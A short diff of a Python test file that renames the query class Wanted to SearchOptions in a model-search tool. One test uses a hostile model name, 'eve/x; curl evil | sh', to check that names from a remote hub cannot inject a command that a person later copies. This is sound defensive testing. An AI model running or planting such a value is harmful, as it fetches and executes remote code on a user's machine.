@@ -20,7 +20,7 @@ from freehold.hub.client import read_address
 from freehold.hub.mirror import mirror
 from freehold.hub.repositories import Repositories, git_oid
 from freehold.models.store import Store
-from freehold.workflows.find import Wanted, find
+from freehold.workflows.find import SearchOptions, find
 
 COMMIT = "c" * 40
 Route = Callable[[BaseHTTPRequestHandler], None]
@@ -154,7 +154,7 @@ def test_a_model_s_name_from_elsewhere_is_a_name(tmp_path: Path) -> None:
     """It becomes part of a command that a person copies."""
     rows = [{"_id": "1", "id": "eve/x; curl evil | sh", "tags": ["gguf"], "downloads": 3}]
     with hub({"/api/models": rows}) as address, pytest.raises(UsageError, match="cannot name"):
-        find(Store(tmp_path), Wanted(), (address,))
+        find(Store(tmp_path), SearchOptions(), (address,))
 
 
 def test_text_from_elsewhere_moves_no_cursor() -> None:
